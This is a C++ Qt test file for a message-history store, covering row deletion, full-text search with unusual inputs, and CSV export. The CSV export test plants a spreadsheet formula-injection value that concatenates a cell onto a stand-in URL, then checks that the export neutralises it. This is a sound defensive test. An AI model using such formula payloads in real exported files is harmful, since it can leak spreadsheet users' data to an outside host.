// SPDX-FileCopyrightText: 2026 The KORVANE developers
// SPDX-License-Identifier: GPL-3.0-or-later

// The rows of a history: deleting and clearing them, searching them (from the
// full-text index and by scanning) and exporting them as CSV.

#include "history/historymodel.h"
#include "history/historystore.h"
#include "history/searchterm.h"
#include "tests/support/historyfixture.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>
#include <QStandardPaths>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace std::chrono_literals;
using State = HistoryRecord::State;

namespace {

QList<qint64> idsOf(const QList<HistoryRecord> &records)
{
    QList<qint64> ids;
    for (const HistoryRecord &record : records)
        ids.append(record.id);
    return ids;
}

} // namespace

class tst_HistoryRows : public QObject, public HistoryFixture
{
    Q_OBJECT

private slots:
    void initTestCase() { QStandardPaths::setTestModeEnabled(true); }
    void init() { setUpHistoryFixture(); }
    void cleanup() { tearDownHistoryFixture(); }

    void removeAndClear();
    void search_data();
    void search();
    void searchAcrossIndexMark();
    void searchTakesWhatAPersonTypes_data();
    void searchTakesWhatAPersonTypes();
    void exportsCsv();
    void failedExportLeavesNoFile();
};

void tst_HistoryRows::removeAndClear()
{
    HistoryStore store(file());
    QList<qint64> ids;
    for (int i = 0; i < 5; ++i)
        ids.append(beginOne(store, u"Ann %1"_s.arg(i)));
    QVERIFY(store.remove({ids.at(1), ids.at(3), 999}));
    QCOMPARE(idsOf(store.newest(-1).value()), (QList<qint64>{ids.at(4), ids.at(2), ids.at(0)}));
    QCOMPARE(idsOf(store.newest(2).value()), (QList<qint64>{ids.at(4), ids.at(2)}));
    HistoryStore::Query search;
    search.filter = u"Ann 3"_s;
    QCOMPARE(store.records(search)->size(), 0);
    search.filter = u"Ann"_s;
    QCOMPARE(store.records(search)->size(), 3);

    QVERIFY(store.clear());
    QCOMPARE(store.newest(-1)->size(), 0);
    QCOMPARE(store.records(search)->size(), 0);
    QCOMPARE(beginOne(store, u"Ann again"_s), ids.at(4) + 1);
    QCOMPARE(store.records(search)->size(), 1);
    QCOMPARE(RawFile(file()).value(u"PRAGMA integrity_check"_s).toString(), u"ok"_s);
}

void tst_HistoryRows::search_data()
{
    QTest::addColumn<QString>("filter");
    QTest::addColumn<QList<int>>("matches"); // positions in the rows below, newest first

    QTest::newRow("empty") << QString() << QList<int>{6, 5, 4, 3, 2, 1, 0};
    QTest::newRow("blank") << u"   "_s << QList<int>{6, 5, 4, 3, 2, 1, 0};
    QTest::newRow("name") << u"ann"_s << QList<int>{1, 0};
    QTest::newRow("name, other case") << u"ANN SMITH"_s << QList<int>{0};
    QTest::newRow("name, surrounding spaces") << u"  smith "_s << QList<int>{0};
    QTest::newRow("non-latin case") << u"MÜLLER"_s << QList<int>{2};
    QTest::newRow("decomposed accent") << u"mu\u0308ller"_s << QList<int>{2};
    QTest::newRow("number") << u"0049170"_s << QList<int>{2};
    QTest::newRow("number, two digits") << u"91"_s << QList<int>{2, 1, 0};
    QTest::newRow("text") << u"LUNCH"_s << QList<int>{1};
    QTest::newRow("one letter") << u"ü"_s << QList<int>{2};
    QTest::newRow("percent") << u"%"_s << QList<int>{3};
    QTest::newRow("percent phrase") << u"50% off"_s << QList<int>{3};
    QTest::newRow("underscore") << u"a_b"_s << QList<int>{4};
    QTest::newRow("underscore alone") << u"_"_s << QList<int>{4};
    QTest::newRow("star and question") << u"*?"_s << QList<int>{5};
    QTest::newRow("bracket") << u"[x"_s << QList<int>{5};
    QTest::newRow("double quote") << u"\"quoted\""_s << QList<int>{5};
    QTest::newRow("fts operators are text") << u"NEAR(a b)"_s << QList<int>{};
    QTest::newRow("two letters outside the BMP") << u"\U0001F600\U0001F601"_s << QList<int>{6};
    QTest::newRow("no match") << u"zebra"_s << QList<int>{};
    QTest::newRow("not across fields") << u"tte004"_s << QList<int>{};
}

void tst_HistoryRows::search()
{
    QFETCH(QString, filter);
    QFETCH(QList<int>, matches);
    HistoryStore store(file());
    const QList<HistoryRecord> rows{
        historySend(u"Ann Smith"_s, u"00447911000001"_s, u"See you at eight"_s),
        historySend(u"Annette"_s, u"00447911000002"_s, u"Lunch tomorrow?"_s),
        historySend(u"Jörg Müller"_s, u"00491701234567"_s, u"Guten Tag"_s),
        historySend(u"Shop"_s, u"00441610000000"_s, u"50% off today"_s),
        historySend(u"Dev"_s, u"00441610000001"_s, u"rename a_b to c"_s),
        historySend(u"Quiz"_s, u"00441610000002"_s, u"*? [x] \"quoted\""_s),
        historySend(u"Emoji"_s, u"00441610000003"_s, u"smile \U0001F600\U0001F601"_s),
    };
    QList<qint64> ids;
    for (const HistoryRecord &row : rows)
        ids.append(store.begin(row).value_or(0));
    QList<qint64> expected;
    for (const int position : matches)
        expected.append(ids.at(position));

    HistoryStore::Query query;
    query.filter = filter;
    const auto found = store.records(query);
    QVERIFY2(found, qPrintable(store.errorString()));
    QCOMPARE(idsOf(*found), expected);

    HistoryModel model(store);
    model.setFilter(filter);
    QList<qint64> shown;
    for (int row = 0; row < model.rowCount(); ++row)
        shown.append(model.record(row).id);
    QCOMPARE(shown, expected);
}

// The full-text index takes new rows in batches; a search, read page by page,
// finds the rows on both sides of its mark, before and after deletions.
void tst_HistoryRows::searchAcrossIndexMark()
{
    HistoryStore store(file());
    QList<qint64> targets;
    for (int i = 0; i < 150; ++i) {
        const std::optional<qint64> id = store.begin(historySend(i % 3 ? u"Other %1"_s.arg(i) : u"Target %1"_s.arg(i),
                                                          u"00447911000001"_s, u"Hello"_s));
        QVERIFY(id);
        if (i % 3 == 0)
            targets.prepend(*id);
    }
    const auto pages = [&store] {
        QList<qint64> found;
        HistoryStore::Query query;
        query.filter = u"TARGET"_s;
        query.limit = 7;
        for (;;) {
            const auto page = store.records(query);
            if (!page || page->isEmpty())
                return found;
            found += idsOf(*page);
            query.olderThan = page->constLast().id;
        }
    };
    QCOMPARE(pages(), targets);
    QVERIFY(store.remove({targets.at(0), targets.at(targets.size() - 1), targets.at(20)}));
    targets.removeAt(targets.size() - 1);
    targets.removeAt(20);
    targets.removeAt(0);
    QCOMPARE(pages(), targets);
    for (int i = 0; i < 100; ++i)
        QVERIFY(store.begin(historySend(u"Other"_s, u"00447911000001"_s, u"Hello"_s)));
    QCOMPARE(pages(), targets);

    // The index agrees with the rows it holds: with the rows above the mark
    // added, it matches the search text row for row.
    RawFile raw(file());
    QVERIFY(raw.exec(u"BEGIN"_s));
    QVERIFY(raw.exec(u"INSERT INTO message_search_index (rowid, text) SELECT id, text FROM message_search"
                     " WHERE id > (SELECT indexed_through FROM search_index)"_s));
    QVERIFY(raw.exec(u"INSERT INTO message_search_index (message_search_index, rank) VALUES ('integrity-check', 1)"_s));
    QVERIFY(raw.exec(u"ROLLBACK"_s));
}

void tst_HistoryRows::searchTakesWhatAPersonTypes_data()
{
    QTest::addColumn<QString>("filter");
    QTest::addColumn<QString>("sameAs"); // the filter that must find the same rows, and finds some
    const QString emoji = u"\U0001F600"_s;
    QTest::newRow("NUL in the term") << u"oth\0er 1"_s << u"other 1"_s;
    QTest::newRow("17,000 stars") << QString(17000, u'*') << QString(SearchTerm::maximumLength, u'*');
    QTest::newRow("17,000 brackets") << QString(17000, u'[') << QString(SearchTerm::maximumLength, u'[');
    QTest::newRow("17,000 CJK characters") << QString(17000, u'漢') << QString(SearchTerm::maximumLength, u'漢');
    QTest::newRow("lone surrogate") << u"ab"_s + QChar(0xD83D) << u"ab\uFFFD"_s;
    QTest::newRow("cut before a surrogate pair") << u"x"_s + emoji.repeated(9000)
                                                 << u"x"_s + emoji.repeated(SearchTerm::maximumLength / 2 - 1);
}

// Terms that SQLite would refuse, or cut at a NUL, find what their usable
// part finds, in rows both in the full-text index and above its mark.
void tst_HistoryRows::searchTakesWhatAPersonTypes()
{
    QFETCH(QString, filter);
    QFETCH(QString, sameAs);
    HistoryStore store(file());
    const QStringList long_{QString(250, u'*'), QString(250, u'['), QString(250, u'漢'),
                            u"x"_s + u"\U0001F600"_s.repeated(150), u"ab\uFFFD"_s};
    // Rows 0 to 4 end in the index's first batch of 64, rows 65 to 69 above it.
    for (int i = 0; i < 70; ++i) {
        const QString message = i % 65 < long_.size() ? long_.at(i % 65) : u"Hello"_s;
        QVERIFY(store.begin(historySend(u"Other %1"_s.arg(i), u"00447911000001"_s, message)));
    }
    const auto found = [&store](const QString &term) {
        const auto rows = store.records({.filter = term});
        return rows ? idsOf(*rows) : QList<qint64>{-1};
    };
    const QList<qint64> expected = found(sameAs);
    QVERIFY(!expected.isEmpty() && expected.first() > 0);
    QCOMPARE(found(filter), expected);
    QVERIFY2(store.errorString().isEmpty(), qPrintable(store.errorString()));
}

void tst_HistoryRows::exportsCsv()
{
    HistoryStore store(file());
    HistoryRecord quoted = historySend(u"Smith, Ann"_s, u"00447911000001"_s, u"She said \"hi\",\r\nthen left"_s);
    quoted.time = QDateTime(QDate(2026, 3, 1), QTime(9, 5, 7, 12), Qt::UTC);
    const qint64 first = store.begin(quoted).value();
    QVERIFY(store.finish(first, State::NotKnown, u"the answer was cut short"_s, 30000ms));
    const qint64 second
        = store.begin(historySend(u"=HYPERLINK(\"http://x\"&B2)"_s, u"00491701234567"_s, u"Grüße \U0001F600"_s))
              .value();

    const QString csv = m_dir->filePath(u"out/history.csv"_s);
    QVERIFY(QDir().mkpath(QFileInfo(csv).path()));
    QVERIFY2(store.exportCsv(csv), qPrintable(store.errorString()));

    QProcess python;
    python.start(u"/usr/bin/python3"_s,
                 {u"-c"_s, u"import csv, json, sys\n"
                           "with open(sys.argv[1], newline='', encoding='utf-8') as f:\n"
                           "    print(json.dumps(list(csv.reader(f, strict=True))))\n"_s,
                  csv});
    QVERIFY(python.waitForFinished());
    QCOMPARE(python.exitCode(), 0);
    const QJsonArray rows = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
    const auto line = [](const QStringList &fields) { return QJsonArray::fromStringList(fields); };
    const HistoryRecord newer = store.record(second).value();
    const QJsonArray expected{
        line({u"id"_s, u"time"_s, u"sender_name"_s, u"sender_number"_s, u"recipient_name"_s, u"recipient_number"_s,
              u"message"_s, u"culture"_s, u"endpoint"_s, u"state"_s, u"reason"_s, u"duration_ms"_s}),
        line({QString::number(second), newer.time.toString(Qt::ISODateWithMs), u"Alice"_s, u"00441234567890"_s,
              u"'=HYPERLINK(\"http://x\"&B2)"_s, u"00491701234567"_s, u"Grüße \U0001F600"_s, u"en-GB"_s,
              u"http://127.0.0.1:47159/"_s,
              u"sending"_s, QString(), QString()}),
        line({QString::number(first), u"2026-03-01T09:05:07.012Z"_s, u"Alice"_s, u"00441234567890"_s,
              u"Smith, Ann"_s, u"00447911000001"_s, u"She said \"hi\",\r\nthen left"_s, u"en-GB"_s,
              u"http://127.0.0.1:47159/"_s, u"not known"_s, u"the answer was cut short"_s, u"30000"_s}),
    };
    QCOMPARE(rows, expected);

    QFile raw(csv);
    QVERIFY(raw.open(QIODevice::ReadOnly));
    QVERIFY(raw.readLine().endsWith("duration_ms\r\n"));
    // Other people's numbers and messages: the fixture's umask would let
    // anyone read a file created without a mode of its own.
    const QFileDevice::Permissions others = QFile::ReadGroup | QFile::WriteGroup | QFile::ReadOther | QFile::WriteOther;
    QCOMPARE(raw.permissions() & others, QFileDevice::Permissions());
}

void tst_HistoryRows::failedExportLeavesNoFile()
{
    HistoryStore store(file());
    beginOne(store);
    const QString csv = m_dir->filePath(u"missing/history.csv"_s);
    QVERIFY(!store.exportCsv(csv));
    QVERIFY(store.errorString().contains(csv));
    QVERIFY(!QFileInfo::exists(QFileInfo(csv).path()));
}

QTEST_GUILESS_MAIN(tst_HistoryRows)
#include "tst_historyrows.moc"
